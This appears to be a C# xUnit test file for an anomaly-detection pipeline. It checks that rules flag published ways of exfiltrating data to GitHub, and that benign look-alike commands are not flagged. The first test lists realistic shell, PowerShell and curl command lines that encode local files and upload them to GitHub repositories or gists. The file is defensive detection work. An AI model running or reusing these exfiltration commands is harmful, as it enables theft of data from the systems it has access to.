using Anomaly.Pipeline.Ingest.Commands;
using Anomaly.Pipeline.Rules;
using Anomaly.Pipeline.Schema;
using Shouldly;
using Xunit;

namespace Anomaly.Tests.Rules;

/// <summary>Published ways to carry data to a code repository fire a rule of ours; what only looks like them fires none.</summary>
public class KnownAttackTests
{
    private const string PowerShell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

    private static readonly RuleSet Rules = RuleSet.LoadDefault();

    // In the shape of Caldera's abilities a201bec2, 4a1120a5 and 0582dc26, on Linux and on Windows, and of Empire's module.
    [Theory]
    [InlineData("/bin/sh", "sh -c O=o; R=r; H=\"Authorization: token x\"; for f in /tmp/d/*; do base64 -w 0 \"$f\" >> /tmp/b64; c=$(curl -s -X PUT -H \"$H\" https://api.github.com/repos/$O/$R/contents/$N -d @/tmp/b64); done", "anomaly-command-api-upload")]
    [InlineData("/bin/sh", "sh -c H=\"Authorization: token x\"; base64 -w 0 /tmp/s.tgz >> /tmp/b64; c=$(curl -s -X PUT -H \"Accept: application/vnd.github.v3+json\" -H \"$H\" https://api.github.com/repos/$O/$R/contents/$N -d @/tmp/b64); rm /tmp/b64", "anomaly-command-api-upload")]
    [InlineData("/bin/sh", "sh -c t=$(mktemp); echo \"$B\" > $t; curl --silent --output /dev/null --fail -X POST -d @$t -u $U:$P https://api.github.com/gists; rm $t", "anomaly-command-gist")]
    [InlineData(PowerShell, "powershell -C \"foreach ($f in $Files){ $uri = 'https://api.github.com/repos/' + $O + '/' + $R + '/contents/' + $N; Invoke-RestMethod -Headers $H -Uri $uri -Body $B -Method Put -ErrorAction SilentlyContinue }\"", "anomaly-command-api-upload")]
    [InlineData(PowerShell, "powershell -C \"$uri = 'https://api.github.com/repos/' + $O + '/contents/' + $N; try { $c = Invoke-RestMethod -Headers $H -Uri $uri -Body $B -Method Put } catch { $PSItem }\"", "anomaly-command-api-upload")]
    [InlineData(PowerShell, "powershell -C \"$URL = 'https://api.github.com/gists'; Invoke-WebRequest -Uri $URL -Method POST -Body $Body -Headers $H 1>$null -UseBasicParsing\"", "anomaly-command-gist")]
    [InlineData(PowerShell, "powershell -c \"Invoke-ExfilDataToGitHub -GHUser u -GHRepo r -GHPAT x -GHFilePath p/ -LocalFilePath C:\\d\\ -Filter *.pdf\"", "anomaly-command-known-script")]
    [InlineData("/usr/bin/git", "git -C /srv/data -c http.proxy=http://10.0.0.1:3128 push --mirror https://x@github.com/o/r", "anomaly-command-push")]
    [InlineData("/usr/bin/curl", "curl -T d.zip https://api.github.com/repos/o/r/contents/d.zip", "anomaly-command-api-upload")]
    [InlineData("/usr/bin/curl", "curl -XPUT --json @d https://api.github.com/repos/o/r/contents/d", "anomaly-command-api-upload")]
    public void An_attack_fires_its_rule_with_a_high_score(string image, string commandLine, string rule)
    {
        var hit = Hits(Command(image, commandLine)).SingleOrDefault(h => h.RuleId == rule);
        hit.ShouldNotBeNull(commandLine);
        hit.Score.ShouldBeGreaterThanOrEqualTo(8);
    }

    [Theory]
    [InlineData("/usr/bin/git", "git fetch origin")]
    [InlineData("/usr/bin/git", "git pull --rebase")]
    [InlineData("/usr/bin/curl", "curl -d @x http://localhost")]
    [InlineData("/usr/bin/curl", "curl -f https://api.github.com/repos/o/r")]
    [InlineData("/usr/bin/curl", "curl -d @x https://intranet.example.com/repos/o/r/contents/f")]
    [InlineData(PowerShell, "powershell -c \"Invoke-RestMethod -Uri https://api.github.com/repos/o/r/releases/latest\"")]
    [InlineData("/usr/bin/gh", "gh release download v1")]
    public void A_look_alike_fires_nothing(string image, string commandLine)
        => Hits(Command(image, commandLine)).Where(h => h.Score > 0).Select(h => h.RuleId).ShouldBeEmpty(commandLine);

    [Fact]
    public void A_clone_of_100_MB_is_no_upload()
    {
        var clone = TestRules.Upload(2_000_000, process: "/usr/lib/git-core/git-remote-https");
        clone.BytesIn = 100_000_000;
        Hits(clone, Command("/usr/bin/git", "git clone https://github.com/o/r")).Where(h => h.Score > 0).ShouldBeEmpty();

        // The other way round it is one.
        var push = TestRules.Upload(120_000_000, process: "/usr/lib/git-core/git-remote-https");
        push.BytesIn = 2_000_000;
        Hits(push).Select(h => h.RuleId).ShouldContain("mitre-upload-volume-100mb");
    }

    // As when logs are read.
    private static ProcessEvent Command(string image, string commandLine)
    {
        var e = TestRules.Process(SecretMask.Apply(commandLine), image);
        (e.Action, e.Provider, e.Remote) = CommandRecogniser.Recognise(image, commandLine);
        return e;
    }

    private static IReadOnlyList<RuleHit> Hits(params Event[] events) => TestRules.Hits(Rules, events);
}
